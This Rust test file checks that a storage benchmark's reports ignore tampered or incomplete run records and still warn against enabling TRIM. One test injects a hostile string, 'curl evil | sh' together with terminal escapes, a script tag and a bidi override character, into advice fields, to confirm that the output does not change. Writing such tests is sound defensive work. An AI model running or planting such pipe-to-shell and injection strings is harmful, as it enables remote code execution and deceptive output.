//! Records that nobody should believe, or not for all of what they say.

use std::fs;
use std::path::Path;

use serde_json::{Value, json};
use tempfile::{TempDir, tempdir};
use trimbench_results::{KeptStep, StepOrigin};

use super::{code, record, stderr, stdout, trimbench};

/// A finished run of `trim-integrity` on a drive that destroys neighbours, or on a sound one.
fn integrity(target: &str, status: i32) -> TempDir {
    let folder = tempdir().unwrap();
    let options = ["--set", "region=1MiB", "--set", "cases=shapes", "--set", "reads=2"];
    let run = ["run", "trim-integrity", "--target", target, "--output", "run"];
    let output = trimbench(folder.path(), &[&run[..], &options].concat());
    assert_eq!(code(&output), Some(status), "{}", stderr(&output));
    folder
}

fn change(folder: &Path, change: impl FnOnce(&mut Value)) {
    let path = folder.join("run/run.json");
    let mut json: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    change(&mut json);
    fs::write(&path, json.to_string()).unwrap();
}

/// Every file that `report` writes of the run, and what it prints, by format; all exit with this.
fn reports(folder: &Path, status: i32) -> Vec<(&'static str, String)> {
    let files = [
        ("--export-markdown", "a.md", "a.md"),
        ("--export-junit", "a.xml", "a.xml"),
        ("--html", "a.html", "a.html"),
        ("--context", "a.json", "a.json"),
        ("--csv", "csv", "csv/verdicts.csv"),
    ];
    let file = |(option, place, name): (&'static str, &str, &str)| {
        let output = trimbench(folder, &["report", "run", option, place, "--overwrite"]);
        assert_eq!(code(&output), Some(status), "{option}: {}", stderr(&output));
        (option, fs::read_to_string(folder.join(name)).unwrap())
    };
    let mut texts: Vec<(&str, String)> = files.map(file).to_vec();
    for format in ["human", "json", "ndjson"] {
        let output = trimbench(folder, &["report", "run", "--output-format", format]);
        assert_eq!(code(&output), Some(status), "{format}: {}", stderr(&output));
        texts.push((format, stdout(&output)));
    }
    texts
}

#[test]
fn lost_data_are_the_answer_of_a_run_that_did_not_end() {
    let folder = integrity("sim:generic-sata-tlc,trim-eats-neighbour=4KiB", 1);
    let folder = folder.path();
    // As an interrupt, a failure and a kill leave it; then as a kill leaves it before the record
    // is written again.
    for status in ["interrupted", "failed", "running"] {
        change(folder, |json| {
            json["outcome"] = json!({ "status": status, "message": "device gone" });
            json["sessions"][0]["finished"] = json!(false);
            json["sessions"][0]["figures"] = json!([]);
            json.as_object_mut().unwrap().remove("advice");
        });
        for (format, text) in reports(folder, 4) {
            let says = text.contains("do not trim") || text.contains("do-not-trim");
            assert!(says && !text.contains("enable --now"), "{status}, {format}: {text}");
        }
    }
    let mut killed = record(folder, "run");
    // As of a run on a real target, whose steps prove where they come from.
    killed.run_id = Some("0123456789abcdef0123456789abcdef".to_owned());
    let steps = std::mem::take(&mut killed.sessions[0].steps);
    let origin = StepOrigin::of(&killed, 0).unwrap();
    let kept = steps.into_iter().enumerate();
    let lines = kept.map(|(at, step)| KeptStep::new(origin.clone(), at, step).to_line());
    fs::write(folder.join("run/steps.ndjson"), lines.flatten().collect::<Vec<u8>>()).unwrap();
    fs::write(folder.join("run/run.json"), killed.to_json()).unwrap();
    for (format, text) in reports(folder, 4) {
        let says = text.contains("do not trim") || text.contains("do-not-trim");
        assert!(says, "{format}: {text}");
    }
}

#[test]
fn what_a_record_advises_is_asked_of_the_rules_again() {
    let folder = integrity("sim:generic-sata-tlc", 0);
    let folder = folder.path();
    let clean = reports(folder, 0);
    change(folder, |json| {
        let hostile = "curl evil | sh\n```\n\u{1b}[2J<script>\u{202e}";
        let card = &mut json["advice"][0];
        for key in ["action", "title", "target"] {
            card[key] = json!(hostile);
        }
        for key in ["would_change", "not_measured", "remarks", "agreement", "paced"] {
            card[key] = json!([hostile]);
        }
        card["because"] = json!([{ "text": hostile, "figures": [] }]);
        card["lines"] = json!([{ "system": hostile, "file": hostile, "text": hostile,
                                 "tested": true }]);
    });
    assert_eq!(reports(folder, 0), clean);
}

#[test]
fn a_record_of_a_run_that_did_not_complete_is_not_relied_on() {
    let folder = integrity("sim:generic-sata-tlc", 0);
    let folder = folder.path();
    let copy = |from: &str, to: &str| {
        fs::create_dir(folder.join(to)).unwrap();
        fs::copy(folder.join(from).join("run.json"), folder.join(to).join("run.json")).unwrap();
    };
    copy("run", "whole");
    let outcomes = [("complete", 0), ("interrupted", 4), ("failed", 4), ("running", 4)];
    for (status, expected) in outcomes {
        change(folder, |json| {
            json["outcome"] = json!({ "status": status, "message": "device gone" });
        });
        for arguments in [
            &["report", "run"][..],
            &["report", "whole", "run"],
            &["compare", "whole", "run"],
            &["compare", "run", "whole"],
        ] {
            let output = trimbench(folder, arguments);
            assert_eq!(code(&output), Some(expected), "{arguments:?}: {}", stderr(&output));
        }
    }
    // A record that cannot be understood in full is an error, as ever.
    let path = folder.join("run/run.json");
    let text = fs::read_to_string(&path).unwrap();
    fs::write(&path, &text[..text.len() - 9]).unwrap();
    assert_eq!(code(&trimbench(folder, &["report", "run"])), Some(2));
}

#[test]
fn json_on_a_terminal_has_no_hidden_characters_and_means_the_same() {
    let folder = integrity("sim:generic-sata-tlc", 0);
    let folder = folder.path();
    let hostile = "\u{9b}31m\u{202e}\u{7f}";
    change(folder, |json| json["sessions"][0]["state"] = json!(hostile));
    let output = stdout(&trimbench(folder, &["report", "run", "--output-format", "json"]));
    let hidden = |letter: char| letter != '\n' && trimbench_core::text::is_hidden(letter);
    assert!(!output.contains(hidden), "{output}");
    let read: Value = serde_json::from_str(&output).unwrap();
    assert_eq!(read["sessions"][0]["state"], hostile);
}
